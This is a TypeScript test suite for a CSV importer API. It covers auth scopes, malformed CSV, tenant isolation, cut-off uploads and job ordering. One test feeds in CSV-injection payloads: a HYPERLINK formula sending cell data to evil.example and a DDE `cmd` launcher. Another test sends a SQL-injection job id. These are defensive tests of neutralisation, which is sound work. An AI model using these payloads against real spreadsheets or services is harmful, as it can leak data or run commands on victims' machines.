/**
 * The importer's endpoints against bad input (docs/importer.md):
 * each gets a precise 4xx in the OData error body, or a
 * failed job with error and line; nothing is half-applied, nothing queued
 * that should not be, and no tenant sees another's jobs or records.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import net from 'node:net';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { createToken } from '../identity/personal-access-tokens.ts';
import { workspace } from '../../test-support/hub.ts';
import { eventually } from '../../test-support/eventually.ts';
import { RawRequest } from '../../test-support/raw-request.ts';
import { importerFixture } from '../../test-support/importer-fixture.ts';

const { db, data, hub, acme, token, request, importer, csv, spooling } = await importerFixture();
const globex = await workspace(db, 'Globex', 'gil@globex.test');
const globexToken = (await createToken(db, { tenantId: globex.tenantId, userId: globex.userId, name: 'g', scopes: ['import'] })).token;
const readOnly = (await createToken(db, { tenantId: acme.tenantId, userId: acme.userId, name: 'r', scopes: ['api:read'] })).token;

/** What an accepted upload leaves: job rows and staging tables (dropped when a job ends). */
async function queued() {
  const jobs = await db.selectFrom('import_jobs').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
  const { rows: staging } = await sql<{ n: string }>`select count(*) as n from information_schema.tables where table_schema = 'importer_staging'`.execute(db);
  return { jobs: Number(jobs.n), staging: Number(staging[0]!.n) };
}

async function refused(method: string, path: string, body: string | Buffer | undefined, headers: Record<string, string>, status: number, code: string, message?: RegExp) {
  const before = await queued();
  const reply = await request(method, path, body, headers);
  assert.equal(reply.status, status, reply.text);
  assert.equal(reply.json?.error?.code, code, reply.text);
  if (message) assert.match(reply.json.error.message, message);
  assert.deepEqual(await queued(), before, 'nothing queued');
  return reply;
}

test('auth: missing or invalid token 401 with a Bearer challenge, a token without the import scope 403', async () => {
  for (const bearer of [null, 'ctp_not-a-token', 'garbage']) {
    const reply = await request('PUT', '/import/crm/account', 'id\na', csv, bearer);
    assert.equal(reply.status, 401);
    assert.equal(reply.json.error.code, 'IDENTITY_INVALID_TOKEN');
    assert.match(reply.headers.get('www-authenticate')!, /^Bearer /);
  }
  for (const [method, path] of [['PUT', '/import/crm/account'], ['DELETE', '/import/crm/account'], ['GET', '/import/crm/account/a'], ['GET', '/import/job/9e259d7a-8dd2-42ce-beb8-ef637eda7ef7']]) {
    const reply = await request(method!, path!, method === 'GET' ? undefined : 'id\na', method === 'GET' ? {} : csv, readOnly);
    assert.equal(reply.status, 403, `${method} ${path}`);
    assert.equal(reply.json.error.code, 'IDENTITY_INSUFFICIENT_SCOPE');
    assert.match(reply.headers.get('www-authenticate')!, /scope="import"/);
  }
  assert.equal((await queued()).jobs, 0);
});

test('unknown type: 404 naming the valid types, on every route', async () => {
  for (const [method, path] of [['PUT', '/import/crm/accounts'], ['DELETE', '/import/crm/case'], ['GET', '/import/crm/Account/acc-1']]) {
    const reply = await refused(method!, path!, method === 'GET' ? undefined : 'id\na', method === 'GET' ? {} : csv, 404, 'IMPORTER_UNKNOWN_TYPE');
    assert.match(reply.json.error.message, /account, contact, opportunity, lead and user/);
  }
});

test('wrong or missing Content-Type: 415; text/csv with a charset other than UTF-8: 415', async () => {
  await refused('PUT', '/import/crm/account', 'id\na', { 'content-type': 'application/json' }, 415, 'IMPORTER_UNSUPPORTED_MEDIA_TYPE', /text\/csv/);
  await refused('PUT', '/import/crm/account', 'id\na', { 'content-type': 'text/csv; charset=iso-8859-1' }, 415, 'IMPORTER_UNSUPPORTED_MEDIA_TYPE');
  await refused('PUT', '/import/crm/account', Buffer.from('id\na'), {}, 415, 'IMPORTER_UNSUPPORTED_MEDIA_TYPE', /without Content-Type/);
  const ok = await request('PUT', '/import/crm/account', 'id\nct-1', { 'content-type': 'text/csv; charset=UTF-8; header=present' });
  assert.equal(ok.status, 202);
  assert.equal((await importer.waitForJob(ok.json.job)).status, 'completed');
});

test('missing body: 400, nothing queued', async () => {
  await refused('PUT', '/import/crm/account', undefined, csv, 400, 'IMPORTER_EMPTY_BODY');
  await refused('PUT', '/import/crm/account', '', csv, 400, 'IMPORTER_EMPTY_BODY');
  await refused('DELETE', '/import/crm/contact', '\n\n', csv, 400, 'IMPORTER_EMPTY_BODY');
});

test('a header without id first, or with a bad name: 400 naming the problem, nothing queued', async () => {
  const bad = (body: string, message: RegExp, method = 'PUT') => refused(method, '/import/crm/account', body, csv, 400, 'IMPORTER_BAD_HEADER', message);
  await bad('name,id\nAcme,a', /the first column must be id, not "name"/);
  await bad('ID,name\na,Acme', /the first column must be id, not "ID"/);
  await bad('name\nAcme', /the first column must be id/, 'DELETE');
  await bad('id,name,name\na,b,c', /name appears twice \(columns 2 and 3\)/);
  await bad('id,,name\na,b,c', /column 2 has no name/);
  await bad('id,updated\na,2024-01-01', /updated is set by the importer/);
  await bad('id,Crm Segment\na,x', /"Crm Segment" is not a standard field of account/);
  await bad('id,Name\na,x', /Name differs from the standard name name only in case/);
  await bad('id,Contacts\na,x', /Contacts is a name of Accounts that the importer cannot set/);
});

test('a header of 10,000 columns: 400 before any row is stored', async () => {
  const header = ['id', ...Array.from({ length: 9_999 }, (_, i) => `f${i}`)].join(',');
  await refused('PUT', '/import/crm/account', `${header}\na${',x'.repeat(9_999)}\n`, csv, 400, 'IMPORTER_MALFORMED_CSV', /^Line 1: the header has more than 1000 columns$/);
});

test('ragged rows, an unterminated quote, a stray quote, invalid UTF-8, mixed line ends: 400 with the line, nothing queued', async () => {
  const malformed = (body: string | Buffer, message: RegExp) => refused('PUT', '/import/crm/contact', body, csv, 400, 'IMPORTER_MALFORMED_CSV', message);
  await malformed('id,first_name\nc-1,Ada\nc-2\nc-3,Bob\n', /^Line 3: this record has 1 field, the header 2$/);
  await malformed('id,first_name\nc-1,Ada,Lovelace\n', /^Line 2: this record has 3 fields, the header 2$/);
  await malformed('id,first_name\nc-1,"Ada\nc-2,Bob\n', /^Line 2: a quoted field is never closed \(unterminated quote\)$/);
  await malformed('id,first_name\nc-1,Ada "The Countess"\n', /^Line 2: a quote inside an unquoted field/);
  await malformed(Buffer.concat([Buffer.from('id,first_name\nc-1,Ada\nc-2,'), Buffer.from([0xc3, 0x28]), Buffer.from('\n')]), /^Line 3: is not valid UTF-8; save the file as UTF-8$/);
  await malformed(Buffer.from('id,first_name\nc-1,Ren\xe9e\n', 'latin1'), /^Line 2: is not valid UTF-8/);
  await malformed('id,first_name\r\nc-1,Ada\nc-2,Bob\r\n', /^Line 2: this line ends in LF, the header in CRLF/);
  assert.equal((await data.selectFrom('contacts').selectAll().execute()).length, 0, 'no record was written');
});

test('BOM, CRLF, quoted commas, quotes and line breaks are read as RFC 4180 says', async () => {
  const body = '\ufeffid,first_name,title,notes\r\nc-q,"Lovelace, Ada","The ""Countess""","line one\r\nline two"\r\n';
  const done = await importer.run('contact', body);
  assert.equal(done.status, 'completed', JSON.stringify(done));
  const row = await data.selectFrom('contacts').select(['first_name', 'title', 'additional_fields']).where('id', '=', 'c-q').executeTakeFirstOrThrow();
  assert.deepEqual(row, { first_name: 'Lovelace, Ada', title: 'The "Countess"', additional_fields: { notes: 'line one\r\nline two' } });
  const read = await request('GET', '/import/crm/contact/c-q');
  assert.equal(read.text, 'id,first_name,title,notes\nc-q,"Lovelace, Ada","The ""Countess""","line one\r\nline two"\n');
});

test('read-back: text a spreadsheet would run as a formula comes back as quoted text with a leading \', text a separator could split into a formula quoted, numbers as they are (OWASP CSV injection)', async () => {
  const upload = [
    'id,name,website,industry,region,country,domain,annual_revenue,number_of_employees,crm_note,crm_wide,crm_split,crm_tab,crm_plain',
    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+cmd|\' /C calc\'!A0,@SUM(1+1),-2+3,"\tTab","\'quoted",-12.5,-3,"\r=1+1",\uFF1D1+1,x;=1+1,"a\t=1",Acme Industries-2',
  ].join('\n');
  const done = await importer.run('account', `${upload}\n`);
  assert.equal(done.status, 'completed', JSON.stringify(done));
  const read = await request('GET', '/import/crm/account/f-1');
  assert.equal(
    read.text,
    'id,name,website,domain,industry,annual_revenue,number_of_employees,region,country,crm_note,crm_plain,crm_split,crm_tab,crm_wide\n' +
      'f-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","\'+cmd|\' /C calc\'!A0","\'\'quoted","\'@SUM(1+1)",-12.5,-3,"\'-2+3","\'\tTab","\'\r=1+1",Acme Industries-2,"x;=1+1","a\t=1","\'\uFF1D1+1"\n',
  );
  // What docs/importer.md tells a client: drop one leading ' from a text value that has it.
  const stored = await data.selectFrom('accounts').select(['name', 'website', 'industry', 'region', 'country', 'domain', 'additional_fields']).where('id', '=', 'f-1').executeTakeFirstOrThrow();
  const [header, values] = parse(read.text) as string[][];
  const numeric = new Set(['annual_revenue', 'number_of_employees']);
  const recovered = Object.fromEntries(header!.map((name, i) => [name, numeric.has(name) ? values![i] : values![i]!.replace(/^'/, '')]));
  const { additional_fields: additional, ...standard } = stored;
  assert.deepEqual(recovered, { id: 'f-1', annual_revenue: '-12.5', number_of_employees: '-3', ...standard, ...(additional as object) });
});

test('a 10 MB single cell: kept exactly in an additional field; a job failure with line in a standard field', async () => {
  const big = `${'x'.repeat(10 * 1024 * 1024 - 2)}é`;
  const kept = await importer.run('lead', `id,first_name,essay\nl-big,Ada,${big}\n`);
  assert.equal(kept.status, 'completed', JSON.stringify(kept));
  const read = await request('GET', '/import/crm/lead/l-big');
  assert.equal(read.text, `id,first_name,essay\nl-big,Ada,${big}\n`);
  const failed = await importer.run('lead', `id,first_name\nl-ok,Bob\nl-big2,${big}\n`);
  assert.equal(failed.status, 'failed');
  assert.equal(failed.error_line, 3);
  assert.match(failed.error!, /^column first_name: "x{50,}" is not text of at most 10000 characters$/);
  assert.equal((await request('GET', '/import/crm/lead/l-ok')).status, 404, 'the failed job wrote nothing');
});

test('empty id: the job fails with the line; nothing of the file is applied', async () => {
  const failed = await importer.run('user', 'id,first_name\nu-1,Ada\n,Bob\nu-3,Cy\n');
  assert.equal(failed.status, 'failed');
  assert.equal(failed.error, 'the id is empty');
  assert.equal(failed.error_line, 3);
  assert.equal((await request('GET', '/import/crm/user/u-1')).status, 404);
  const quoted = await importer.run('user', 'id,first_name\n"",Ada\n');
  assert.deepEqual([quoted.status, quoted.error_line], ['failed', 2]);
});

test('duplicate ids in one file: the last row wins', async () => {
  const done = await importer.run('opportunity', 'id,name,stage\no-1,First,Prospect\no-2,Other,Won\no-1,Last,Closed\n');
  assert.equal(done.status, 'completed');
  assert.equal(done.processed, 3);
  const read = await request('GET', '/import/crm/opportunity/o-1');
  assert.equal(read.text, 'id,name,stage\no-1,Last,Closed\n');
});

test('a job id of another tenant, an unknown one, a malformed one: 404; so is another tenant\'s record', async () => {
  const mine = await importer.run('account', 'id,name\nacc-iso,Acme Iso\n');
  for (const id of [mine.job, '00000000-0000-4000-8000-000000000000', 'not-a-uuid', "1' or '1'='1"]) {
    const reply = await request('GET', `/import/job/${encodeURIComponent(id)}`, undefined, {}, globexToken);
    assert.equal(reply.status, 404, id);
    assert.equal(reply.json.error.code, 'IMPORTER_JOB_NOT_FOUND');
  }
  const other = await request('GET', '/import/crm/account/acc-iso', undefined, {}, globexToken);
  assert.equal(other.status, 404);
  assert.equal(other.json.error.code, 'IMPORTER_RECORD_NOT_FOUND');
  // Globex imports the same id: a record of its own, and its delete leaves Acme's alone.
  assert.equal((await importer.run('account', 'id,name\nacc-iso,Globex Iso\n', 'PUT', globexToken)).status, 'completed');
  assert.equal((await importer.run('account', 'id\nacc-iso\n', 'DELETE', globexToken)).status, 'completed');
  assert.equal((await request('GET', '/import/crm/account/acc-iso')).text, 'id,name\nacc-iso,Acme Iso\n');
});

/** Sends the head and part of a body by hand, waits until the server is spooling it, then closes the socket. */
async function cutOff(head: string, part: Buffer): Promise<void> {
  const upload = await RawRequest.open(hub.url, head, part);
  await eventually(() => spooling() === 1, 'the upload reached its spool file', 10_000);
  upload.socket.destroy();
  await eventually(() => spooling() === 0, 'the spool file of the cut-off upload was closed', 10_000);
}

test('a body cut off mid-upload queues nothing and leaves no staging table (Content-Length and chunked)', async () => {
  const before = await queued();
  const rows = Buffer.from(`id,name\n${Array.from({ length: 5_000 }, (_, i) => `cut-${i},Name ${i}`).join('\n')}\n`);
  const head = (extra: string) => `PUT /import/crm/account HTTP/1.1\r\nHost: ${new URL(hub.url).host}\r\nAuthorization: Bearer ${token}\r\nContent-Type: text/csv\r\n${extra}\r\n`;
  await cutOff(head(`Content-Length: ${rows.length}\r\n`), rows.subarray(0, rows.length - 100));
  await cutOff(head('Transfer-Encoding: chunked\r\n'), Buffer.concat([Buffer.from(`${rows.length.toString(16)}\r\n`), rows.subarray(0, 40_000)]));
  assert.deepEqual(await queued(), before);
  assert.equal((await data.selectFrom('accounts').select('id').where('id', 'like', 'cut-%').execute()).length, 0);
});

test('two concurrent uploads of one type: both accepted, applied in the order they were accepted', async () => {
  // The first upload starts, the second is sent whole and accepted, then the first ends: it was accepted last.
  let finishFirst!: () => void;
  const first = new ReadableStream({
    async start(controller) {
      controller.enqueue(new TextEncoder().encode('id,name,industry\nrace-1,From the first,First\n'));
      await new Promise<void>((resolve) => (finishFirst = resolve));
      controller.enqueue(new TextEncoder().encode('race-2,From the first,First\n'));
      controller.close();
    },
  });
  const firstReply = request('PUT', '/import/crm/account', first, csv);
  const second = await request('PUT', '/import/crm/account', 'id,name\nrace-1,From the second\nrace-2,From the second\n', csv);
  assert.equal(second.status, 202);
  finishFirst();
  const firstDone = await firstReply;
  assert.equal(firstDone.status, 202);
  const [a, b] = await Promise.all([importer.waitForJob(firstDone.json.job), importer.waitForJob(second.json.job)]);
  assert.deepEqual([a.status, b.status], ['completed', 'completed']);
  // The job documents show whole seconds; the order is read from the microseconds PostgreSQL keeps.
  const { rows: [times] } = await sql<{ ordered: boolean }>`select a.started_at > b.completed_at as ordered from import_jobs a, import_jobs b
    where a.id = ${firstDone.json.job} and b.id = ${second.json.job}`.execute(db);
  assert.equal(times!.ordered, true, 'the later-accepted job started after the earlier one completed');
  assert.equal((await request('GET', '/import/crm/account/race-1')).text, 'id,name,industry\nrace-1,From the first,First\n');
});
